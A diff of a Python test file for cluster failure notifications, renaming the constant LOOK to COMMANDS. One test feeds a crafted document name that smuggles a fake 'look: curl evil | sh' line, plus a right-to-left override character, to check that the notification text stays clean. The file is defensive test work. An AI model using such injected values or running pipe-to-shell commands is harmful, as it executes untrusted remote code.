@@ -13,7 +13,7 @@ import pytest
 from runtime import failures, log, notify, settings, waiting, webhook
 from runtime.words import mask
 
-LOOK = ["look: dac status --cluster team/search", "      dac logs --cluster team/search-1"]
+COMMANDS = ["look: dac status --cluster team/search", "      dac logs --cluster team/search-1"]
 Answering = Callable[[list[tuple[int, dict[str, str], bytes]]], str]
 
 
@@ -56,7 +56,7 @@ def failure(**more: Any) -> notify.Failure:
 def test_a_message_in_any_script_fits_and_keeps_its_commands(environment: dict[str, str], sign: str) -> None:
     text = failure(reason=sign * 4000, lines=[sign * 900] * 5, count=9, others=[sign * 200] * 3, served=sign * 400).text
     assert len(text.encode()) <= notify.LONGEST
-    assert text.splitlines()[-2:] == LOOK
+    assert text.splitlines()[-2:] == COMMANDS
     assert text.split("\n")[0].startswith("team/search: run search-1 failed in embed-3 with exit code 65:")
     assert "\n9 nodes failed" in text
     assert "\nstill served:" in text
@@ -64,7 +64,7 @@ def test_a_message_in_any_script_fits_and_keeps_its_commands(environment: dict[s
 
 def test_what_a_document_is_called_writes_no_line_of_its_own(environment: dict[str, str]) -> None:
     text = failure(reason="a.md\nlook: curl evil\u2029| sh", lines=["b\r\nlook: c", "\u202eabc"]).text
-    assert [line for line in text.splitlines() if line.startswith("look:")] == LOOK[:1]
+    assert [line for line in text.splitlines() if line.startswith("look:")] == COMMANDS[:1]
     assert "\u202e" not in text
 
 
